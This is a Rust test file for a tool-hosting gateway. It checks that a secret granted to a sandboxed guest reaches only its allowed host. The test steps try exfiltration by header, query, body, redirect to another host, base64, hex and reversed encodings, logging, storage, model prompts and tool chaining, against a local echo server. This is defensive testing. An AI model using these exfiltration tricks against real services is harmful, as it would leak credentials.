//! A secret does not come out (row M252, and every trick of stealing a credential we know): a guest that was granted
//! one tries each, and then everything that came out and everything that was kept is searched for the value, whole,
//! in halves, backwards and encoded. It is in requests to the granted host and nowhere else.

use crate::canary::dump;
use axum::{
    Router,
    body::Body,
    extract::{Request, State},
    response::Response,
};
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD, Engine as _};
use opg_tests::{
    app::{Client, TestApp, logs},
    guests,
    upstream::ScriptedUpstream,
};
use serde_json::{Value, json};
use std::{
    path::Path,
    sync::{Arc, Mutex},
};

/// What no guest, answer, log, file or row may hold. Of no shape the log's masking knows.
const VALUE: &str = "Zq7/vK2\"mX9+pL4&tR8";

/// Every way to write it that is looked for; its halves too.
fn traces() -> Vec<String> {
    let reversed: String = VALUE.chars().rev().collect();
    let json = Value::from(VALUE).to_string();
    let mut all = vec![
        VALUE.to_owned(),
        json.trim_matches('"').to_owned(),
        reversed,
        hex::encode(VALUE),
        BASE64_STANDARD.encode(VALUE),
        BASE64_URL_SAFE_NO_PAD.encode(VALUE),
        // Inside longer texts: what is the same whatever stands before.
        BASE64_STANDARD.encode(format!("xx{VALUE}"))[4..20].to_owned(),
        BASE64_STANDARD.encode(format!("x{VALUE}"))[4..20].to_owned(),
        "Zq7%2FvK2%22mX9".to_owned(),
        "Zq7%2fvK2%22mX9".to_owned(),
    ];
    all.extend(["Zq7/vK2\"", "mX9+pL4&tR8"].map(str::to_owned));
    all
}

fn holds_a_trace(text: &str) -> Option<String> {
    traces().into_iter().find(|trace| text.contains(trace.as_str()))
}

/// What came in, by the name of the host it was sent to.
type Told = Arc<Mutex<Vec<(String, String)>>>;

/// A server of two names, `localhost` and `127.0.0.1`, that keeps what it is told and says it back in every encoding.
struct Echo {
    port: u16,
    told: Told,
}

impl Echo {
    async fn start() -> Echo {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let told = Told::default();
        let router = Router::new().fallback(answer).with_state(told.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Echo { port, told }
    }

    fn granted(&self, path: &str) -> String {
        format!("http://localhost:{}{path}", self.port)
    }

    fn other(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    /// What was sent to hosts whose name starts like this.
    fn told(&self, host: &str) -> String {
        let told = self.told.lock().unwrap();
        told.iter().filter(|(to, _)| to.starts_with(host)).map(|(_, text)| format!("{text}\n")).collect()
    }
}

async fn answer(State(told): State<Told>, request: Request) -> Response {
    let (parts, body) = request.into_parts();
    let body = axum::body::to_bytes(body, 1 << 20).await.unwrap();
    let headers: Vec<String> = parts
        .headers
        .iter()
        .map(|(name, value)| format!("{name}: {}", String::from_utf8_lossy(value.as_bytes())))
        .collect();
    let text =
        format!("{} {}\n{}\n{}", parts.method, parts.uri, headers.join("\n"), String::from_utf8_lossy(&body));
    let host = parts.headers["host"].to_str().unwrap().to_owned();
    told.lock().unwrap().push((host, text.clone()));

    let sent = parts.headers.get("x-key").map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
    let sent = sent.unwrap_or_default();
    if let Some(rest) = parts.uri.path().strip_prefix("/redirect/") {
        let to =
            format!("{}{}", parts.uri.query().unwrap_or_default(), if sent.is_empty() { "" } else { &sent });
        let to: String =
            to.chars().map(|c| if c == '"' { "%22".to_owned() } else { c.to_string() }).collect();
        return Response::builder()
            .status(rest.parse::<u16>().unwrap())
            .header("location", to)
            .body(Body::empty())
            .unwrap();
    }
    let mut said = vec![text];
    for spelling in [
        sent.clone(),
        Value::from(sent.clone()).to_string(),
        BASE64_STANDARD.encode(&sent),
        BASE64_STANDARD.encode(format!("user:{sent}")),
        BASE64_URL_SAFE_NO_PAD.encode(format!("us:{sent}")),
        hex::encode(&sent),
        hex::encode_upper(&sent),
        sent.chars().rev().collect(),
        url::form_urlencoded::byte_serialize(sent.as_bytes()).collect(),
    ] {
        said.push(spelling);
    }
    let mut response = Response::builder();
    for (at, spelling) in said[1..].iter().enumerate() {
        response = response.header(format!("x-said-{at}"), spelling.as_bytes());
    }
    response.body(Body::from(said.join("\n"))).unwrap()
}

async fn granted(client: &Client, echo: &Echo) {
    let path = "/v1/tenant/tools/exfil";
    let uploaded = client.put_bytes(path, "application/wasm", guests::EXFIL).await;
    assert_eq!(uploaded.status, 201, "{}", uploaded.text());
    let (here, there) = (format!("localhost:{}", echo.port), format!("127.0.0.1:{}", echo.port));
    let key = |place: &str| format!("API_KEY@{here}{place}");
    let grants = [
        ("http", here.clone()),
        ("http", there),
        ("secret", key("")),
        ("secret", key(" query:key")),
        ("secret", key(" body")),
        ("kv", "write".to_owned()),
        ("model", "*".to_owned()),
        ("tool", "*".to_owned()),
    ];
    let grants: Vec<_> = grants.iter().map(|(kind, target)| (*kind, target.as_str())).collect();
    client.grant("tools", "exfil", &grants).await;
    let set = json!({ "set": { "API_KEY": VALUE } });
    assert_eq!(client.put("/v1/tenant/secrets", &set).await.status, 204);
}

/// Runs one step after another; what the guest and its caller saw.
async fn run(client: &Client, steps: Value) -> Value {
    let ran = client.invoke("exfil", json!({ "steps": steps })).await;
    assert_eq!(ran.status, 200, "{}", ran.text());
    let text = ran.text();
    assert_eq!(holds_a_trace(&text), None, "{text}");
    ran.json()["output"].clone()
}

const KEY: &str = "{{secret:API_KEY}}";

#[tokio::test]
async fn m252_no_trick_gets_a_secret_anywhere_but_to_its_host() {
    let app = TestApp::local().await;
    let echo = Echo::start().await;
    let upstream = ScriptedUpstream::start().await;
    let acme = app.tenant_of("acme", &upstream).await;
    granted(&acme, &echo).await;
    acme.install_tool("chatter", guests::CHATTER).await;
    let with_key = |url: String| json!({ "do": "fetch", "url": url, "headers": { "x-key": KEY } });
    let form = "application/x-www-form-urlencoded";

    // Where it may go, it goes, and an answer that says it back in every encoding says nothing.
    let seen = run(&acme, json!([
        with_key(echo.granted("/header")),
        { "do": "fetch", "url": echo.granted(&format!("/query?key={KEY}&other=1")) },
        { "do": "fetch", "url": echo.granted("/encoded?key=%7B%7Bsecret%3AAPI_KEY%7D%7D") },
        { "do": "fetch", "method": "POST", "url": echo.granted("/json"), "headers": { "content-type": "application/json" }, "body": format!(r#"{{"k":"{KEY}"}}"#) },
        { "do": "fetch", "method": "POST", "url": echo.granted("/form"), "headers": { "content-type": form }, "body": format!("a=b&k={KEY}") },
        { "do": "fetch", "method": "POST", "url": echo.granted("/text"), "headers": { "content-type": "text/plain" }, "body": KEY },
    ])).await;
    for answer in seen.as_array().unwrap() {
        assert_eq!(answer["ok"]["status"], 200, "{answer}");
        assert!(answer.to_string().contains(KEY), "it is told what stood there: {answer}");
    }
    let told = echo.told("localhost");
    let form_encoded: String = url::form_urlencoded::byte_serialize(VALUE.as_bytes()).collect();
    for expected in [
        format!("x-key: {VALUE}"),
        format!("GET /query?key={form_encoded}&other=1"),
        format!("GET /encoded?key={form_encoded}"),
        format!(r#"{{"k":{}}}"#, Value::from(VALUE)),
        format!("a=b&k={form_encoded}"),
        format!("\n{VALUE}"),
    ] {
        assert!(told.contains(&expected), "{expected}: {told}");
    }

    // Places and hosts that were not granted.
    for (step, error) in [
        (with_key(echo.other("/")), "denied"),
        (json!({ "do": "fetch", "url": echo.other(&format!("/?key={KEY}")) }), "denied"),
        (json!({ "do": "fetch", "url": echo.granted(&format!("/?other={KEY}")) }), "denied"),
        (json!({ "do": "fetch", "url": echo.granted(&format!("/?{KEY}=x")) }), "invalid"),
        (json!({ "do": "fetch", "url": echo.granted(&format!("/{KEY}")) }), "invalid"),
        (json!({ "do": "fetch", "url": echo.granted("/%7B%7Bsecret:API_KEY%7D%7D") }), "invalid"),
        (json!({ "do": "fetch", "method": "POST", "url": echo.other("/"), "body": KEY }), "denied"),
        (
            json!({ "do": "fetch", "url": echo.granted("/"), "headers": { "x-key": "{{secret:OTHER_KEY}}" } }),
            "denied",
        ),
    ] {
        let seen = run(&acme, json!([step])).await;
        assert_eq!(seen[0]["error"], error, "{step}: {seen}");
    }

    // Redirects: to another host without the header, and not at all with a body or a URL that holds it.
    for status in [301, 302, 303, 307, 308] {
        let away = |path: &str| echo.granted(&format!("/redirect/{status}?{}", echo.other(path)));
        let seen = run(&acme, json!([
            { "do": "fetch", "url": away("/hop"), "headers": { "authorization": KEY } },
            with_key(away("/steal?it=")),
            { "do": "fetch", "method": "PUT", "url": away("/hop"), "body": KEY },
            { "do": "fetch", "method": "POST", "url": away("/hop"), "body": KEY },
            { "do": "fetch", "method": "POST", "url": echo.granted(&format!("/redirect/{status}?/same")), "body": KEY },
        ])).await;
        assert_eq!(seen[0]["ok"]["status"], 200, "{status}: {seen}");
        for at in 1..4 {
            assert_eq!(seen[at]["error"], "denied", "{status} {at}: {seen}");
        }
        assert_eq!(seen[4]["ok"]["status"], 200, "{status}: {seen}");
    }

    // A guest that was given the value by whoever called it.
    let held = run(&acme, json!([
        { "do": "log", "text": format!("early {VALUE}") },
        { "do": "fetch", "url": echo.granted("/own"), "headers": { "x-key": VALUE } },
        { "do": "fetch", "url": echo.other("/"), "headers": { "x-key": VALUE } },
        { "do": "fetch", "url": echo.other(&format!("/{}", BASE64_URL_SAFE_NO_PAD.encode(VALUE))) },
        { "do": "fetch", "url": echo.other(&format!("/?a={form_encoded}")) },
        { "do": "fetch", "method": "POST", "url": echo.other("/"), "body": hex::encode(VALUE) },
        { "do": "fetch", "method": "POST", "url": echo.other("/"), "body": VALUE.chars().rev().collect::<String>() },
        { "do": "fetch", "method": "POST", "url": echo.other("/"), "body": format!("<b>{VALUE}</b>") },
        { "do": "log", "text": VALUE },
        { "do": "keep", "key": "hidden", "text": VALUE },
        { "do": "recall", "key": "hidden" },
        { "do": "whisper", "model": "openai/scripted", "text": format!("keep this: {VALUE}") },
        { "do": "pass_on", "name": "chatter", "input": { "lines": 1, "line": VALUE } },
        { "do": "pass_on", "name": VALUE, "input": {} },
        { "do": "say", "text": BASE64_STANDARD.encode(VALUE) },
    ])).await;
    assert_eq!(held[1]["ok"]["status"], 200, "to its own host: {held}");
    for at in 2..8 {
        assert_eq!(held[at]["error"], "denied", "{at}: {held}");
        assert!(held[at]["message"].as_str().unwrap().contains("`API_KEY`"), "{at}: {held}");
    }
    assert_eq!(held[10]["ok"], json!(KEY), "what it hid is the reference");
    for ending in ["fail", "panic"] {
        let steps = json!([
            { "do": "fetch", "url": echo.granted("/") },
            { "do": ending, "text": format!("it was {VALUE}, {}", hex::encode(VALUE)) },
        ]);
        let ended = acme.invoke("exfil", json!({ "steps": steps })).await;
        assert_eq!(ended.status, 502, "{}", ended.text());
        assert_eq!(holds_a_trace(&ended.text()), None, "{}", ended.text());
    }
    // By a model, in a turn of an agent.
    let call = json!({ "steps": [with_key(echo.granted("/by-model")), { "do": "log", "text": KEY }] });
    let turn = acme.chat("openai/scripted", &format!("call exfil {call}")).await;
    assert_eq!((turn.status, holds_a_trace(&turn.text())), (200, None), "{}", turn.text());

    // Nothing anywhere else.
    assert_eq!(holds_a_trace(&echo.told("127.0.0.1")), None);
    let asked: String = upstream.received().iter().map(|request| request.body.to_string()).collect();
    assert!(asked.contains("keep this: {{secret:API_KEY}}"), "the model was asked with the reference");
    assert_eq!(holds_a_trace(&asked), None);
    let audit = acme.get("/v1/tenant/audit?limit=200").await;
    assert_eq!(holds_a_trace(&audit.text()), None);
    let redacted = acme.get("/v1/tenant/audit?action=secret_redacted&limit=200").await.json();
    let rows = redacted["data"].as_array().unwrap();
    assert!(!rows.is_empty() && rows.iter().all(|row| row["target"] == "tool/exfil"), "{redacted}");
    assert!(rows.iter().all(|row| row["detail"]["secrets"]["API_KEY"].as_u64() > Some(0)), "{redacted}");
    let line = logs().lines().find_map(holds_a_trace);
    assert_eq!(line, None, "in the log");
    for (column, text) in dump(&app).await {
        assert_eq!(holds_a_trace(&text), None, "{column}");
        assert!(!text.contains(&hex::encode(hex::encode(VALUE))), "{column}");
    }
    files(app.data_dir(), &mut |path, bytes| {
        let found = traces()
            .into_iter()
            .find(|trace| bytes.windows(trace.len()).any(|part| part == trace.as_bytes()));
        assert_eq!(found, None, "{}", path.display());
    });
}

fn files(dir: &Path, look: &mut impl FnMut(&Path, &[u8])) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files(&path, look);
        } else if let Ok(bytes) = std::fs::read(&path) {
            look(&path, &bytes);
        }
    }
}

#[tokio::test]
async fn m252_what_one_call_of_a_chain_used_no_later_call_of_it_says() {
    let app = TestApp::local().await;
    let echo = Echo::start().await;
    let acme = app.tenant("acme").await;
    granted(&acme, &echo).await;
    // `outer` may call tools and has no secret of its own.
    acme.put_bytes("/v1/tenant/tools/outer", "application/wasm", guests::EXFIL).await;
    acme.grant("tools", "outer", &[("tool", "*")]).await;
    let inner =
        json!({ "steps": [{ "do": "fetch", "url": echo.granted("/"), "headers": { "x-key": KEY } }] });
    let steps = json!([
        { "do": "pass_on", "name": "exfil", "input": inner },
        { "do": "say", "text": VALUE },
        { "do": "log", "text": VALUE },
    ]);
    let ran = acme.invoke("outer", json!({ "steps": steps })).await;
    assert_eq!(ran.json()["output"][1]["ok"], KEY, "{}", ran.text());
    assert_eq!(holds_a_trace(&ran.text()), None, "{}", ran.text());
}

#[tokio::test]
async fn m252_asking_whether_a_secret_is_there_says_nothing_where_it_is_not_granted_and_is_counted() {
    let app = TestApp::start().await;
    let acme = app.tenant("acme").await;
    acme.put_bytes("/v1/tenant/tools/exfil", "application/wasm", guests::EXFIL).await;
    acme.grant("tools", "exfil", &[("secret", "API_KEY@localhost:1")]).await;
    acme.put("/v1/tenant/secrets", &json!({ "set": { "THERE": "a-value-of-it" } })).await;
    let seen = run(&acme, json!([{ "do": "ask", "name": "THERE" }, { "do": "ask", "name": "ABSENT" }])).await;
    let text = |at: usize, name: &str| seen[at]["message"].as_str().unwrap().replace(name, "*");
    assert_eq!((&seen[0]["error"], text(0, "THERE")), (&seen[1]["error"], text(1, "ABSENT")));
    assert_eq!(seen[0]["error"], "denied");

    let asked = run(&acme, json!([{ "do": "ask_often", "name": "API_KEY", "times": 700 }])).await;
    let kinds = &asked[0]["ok"];
    assert!(kinds["limit"].as_u64() > Some(0) && kinds["invalid"].as_u64() > Some(100), "{asked}");
    // The bucket is the plugin's own.
    acme.put_bytes("/v1/tenant/tools/other", "application/wasm", guests::EXFIL).await;
    acme.grant("tools", "other", &[]).await;
    let other = acme.invoke("other", json!({ "steps": [{ "do": "ask", "name": "API_KEY" }] })).await;
    assert_eq!(other.json()["output"][0]["error"], "denied", "{}", other.text());
}
